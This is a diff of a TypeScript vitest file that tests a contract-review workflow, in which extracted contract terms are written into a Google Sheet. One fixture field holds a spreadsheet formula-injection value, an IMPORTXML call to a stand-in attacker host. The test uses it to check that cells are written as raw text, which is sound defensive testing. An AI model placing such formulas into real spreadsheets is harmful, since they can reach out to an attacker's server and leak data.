@@ -1,7 +1,7 @@
 import { describe, expect, test } from 'vitest';
 
 import { bundledContract } from '../../../harness/examples.mts';
-import { type Execution, itemsOf } from '../../../harness/executions.mts';
+import type { Execution } from '../../../harness/executions.mts';
 import { Stage } from '../../support/products/stage.mts';
 
 const DAY = 86_400_000;
@@ -11,16 +11,15 @@ const stage = await Stage.ofThisFile();
 const { google, slack } = stage.products;
 
 describe('contract-backlog.json', () => {
-	const fields = {
+	const terms = {
 		parties: '=IMPORTXML("https://evil.example")',
 		term: '2026 to 2028',
 		renewal: 'Yearly.',
-		notice_needed: true,
 		notice_by: '2028-09-30' as string | null,
 		risk: 'low',
 		reason: 'Usual terms.',
 	};
-	const answered = (changes: Partial<typeof fields> = {}): string => `Here it is:\n${JSON.stringify({ ...fields, ...changes })}`;
+	const answered = (changes: Partial<typeof terms> = {}): string => `Here it is:\n${JSON.stringify({ notice_needed: true, ...terms, ...changes })}`;
 
 	/** Puts files into the folder. */
 	async function save(...names: readonly string[]): Promise<void> {
@@ -41,7 +40,6 @@ describe('contract-backlog.json', () => {
 		expect((await sweep()).status).toBe('success');
 		expect(stage.sandbox.questions).toMatchObject([{ attachments: [{ fileName: 'mutual-nda.pdf' }] }]);
 		expect(stage.sandbox.questions[0]?.text).toMatch(/^Today is \d+ \w+ 20\d\d\./);
-		const { notice_needed: _read, ...terms } = fields;
 		const session = `https://app.legal-ai.example/sessions/${stage.sandbox.questions[0]?.sessionId ?? ''}`;
 		expect(rows()).toMatchObject([{ file: 'mutual-nda.pdf', link: 'https://drive.google.com/file/d/mutual-nda.pdf', ...terms, session, problem: '', checked_by: '' }]);
 		expect([...google.inputOptions]).toContain('RAW');
